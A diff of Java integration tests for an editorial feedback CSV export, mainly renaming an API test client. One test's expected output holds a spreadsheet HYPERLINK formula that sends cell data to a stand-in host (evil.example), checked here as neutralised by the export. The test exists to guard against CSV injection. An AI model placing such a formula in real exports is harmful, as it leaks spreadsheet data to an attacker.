@@ -14,8 +14,9 @@ import org.erratum.feedback.TestArticles;
 import org.erratum.feedback.article.KnownArticle;
 import org.erratum.feedback.report.Report;
 import org.erratum.feedback.vote.Vote;
-import org.erratum.testsupport.ApiClient;
 import org.erratum.testsupport.IntegrationTest;
+import org.erratum.testsupport.TestClient;
+import org.erratum.testsupport.TestClient.Response;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -45,11 +46,11 @@ class FeedbackExportIntegrationTests {
     @Autowired
     MongoTemplate mongo;
 
-    private ApiClient editor;
+    private TestClient editor;
 
     @BeforeEach
     void editor() {
-        editor = ApiClient.onPort(port).as("editor", "editor-dev-password");
+        editor = TestClient.onPort(port).as("editor", "editor-dev-password");
     }
 
     @Test
@@ -63,13 +64,13 @@ class FeedbackExportIntegrationTests {
         storeReport(a, "2011-03-01T23:59:59.999Z", Category.OTHER, null, "The table, I think, is wrong.", false);
         storeReport(a, "2011-03-02T00:00:00Z", Category.OTHER, null, "A day too late for this export.", false);
 
-        ApiClient.Response response = editor.getText("/api/editorial/feedback.csv?from=2011-02-28&to=2011-03-01");
+        Response response = editor.getText("/api/editorial/feedback.csv?from=2011-02-28&to=2011-03-01");
 
         assertThat(response.status()).as(response.toString()).isEqualTo(200);
         assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
         assertThat(response.header("Content-Disposition"))
                 .startsWith("attachment; filename=\"erratum-feedback-2011-02-28-to-2011-03-01.csv\"");
-        assertThat(response.text()).isEqualTo(HEADER
+        assertThat(response.body()).isEqualTo(HEADER
                 + "vote,2011-02-28T00:00:00Z," + a + ",1,true,,,,,false\r\n"
                 + "report,2011-02-28T12:00:00Z," + a + ",1,,,INACCURATE,every 4 to 6 hours,\"Leaflet says 4, not 6.\","
                 + "false\r\n"
@@ -82,7 +83,7 @@ class FeedbackExportIntegrationTests {
         String articleId = TestArticles.newArticleId();
         KnownArticle article = TestArticles.publishAndAwait(
                 TestArticles.article(articleId, "slug-" + articleId, 1, 1), mongo);
-        ApiClient readers = ApiClient.onPort(port);
+        TestClient readers = TestClient.onPort(port);
         assertThat(readers.post("/api/feedback/votes", Map.of("articleId", articleId, "revision", 1,
                 "helpful", false, "reason", "INACCURATE")).status()).isEqualTo(202);
         assertThat(readers.post("/api/feedback/reports", Map.of("articleId", articleId, "revision", 1,
@@ -92,11 +93,11 @@ class FeedbackExportIntegrationTests {
                 "contactEmail", "reader@example.com", "contactConsent", true)).status()).isEqualTo(202);
         LocalDate today = LocalDate.now(ZoneOffset.UTC);
 
-        ApiClient.Response response = editor.getText("/api/editorial/feedback.csv?from=" + today.minusDays(1)
+        Response response = editor.getText("/api/editorial/feedback.csv?from=" + today.minusDays(1)
                 + "&to=" + today.plusDays(1));
 
         assertThat(response.status()).as(response.toString()).isEqualTo(200);
-        String csv = response.text();
+        String csv = response.body();
         assertThat(csv).startsWith(HEADER)
                 .contains(",INACCURATE,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Source\"\")\","
                         + "\"'-2+3 is what the \"\"per day\"\" column adds up to, surely\nnot what was meant\",false\r\n")
@@ -113,13 +114,13 @@ class FeedbackExportIntegrationTests {
         try {
             mongo.insert(IntStream.range(0, 1000).mapToObj(i -> vote(articleId, "2012-06-01T10:00:00Z", true,
                     null, false)).toList(), Vote.class);
-            ApiClient.Response atTheMaximum = editor.getText(path);
+            Response atTheMaximum = editor.getText(path);
             assertThat(atTheMaximum.status()).as(atTheMaximum.toString()).isEqualTo(200);
-            assertThat(atTheMaximum.text().split("\r\n")).hasSize(1 + 1000);
+            assertThat(atTheMaximum.body().split("\r\n")).hasSize(1 + 1000);
 
             storeReport(articleId, "2012-06-01T11:00:00Z", Category.OTHER, null, "One more than may be exported.",
                     false);
-            ApiClient.Response overTheMaximum = editor.getText(path);
+            Response overTheMaximum = editor.getText(path);
 
             assertThat(overTheMaximum.status()).as(overTheMaximum.toString()).isEqualTo(400);
             assertThat(overTheMaximum.header("Content-Type")).startsWith("application/problem+json");
@@ -142,7 +143,7 @@ class FeedbackExportIntegrationTests {
             from=2023-01-01&to=2024-01-02    | to
             """)
     void badDatesAreAProblemNamingTheParameter(String query, String parameter) {
-        ApiClient.Response response = editor.getText("/api/editorial/feedback.csv?" + query);
+        Response response = editor.getText("/api/editorial/feedback.csv?" + query);
 
         assertThat(response.status()).as(response.toString()).isEqualTo(400);
         assertThat(response.header("Content-Type")).startsWith("application/problem+json");
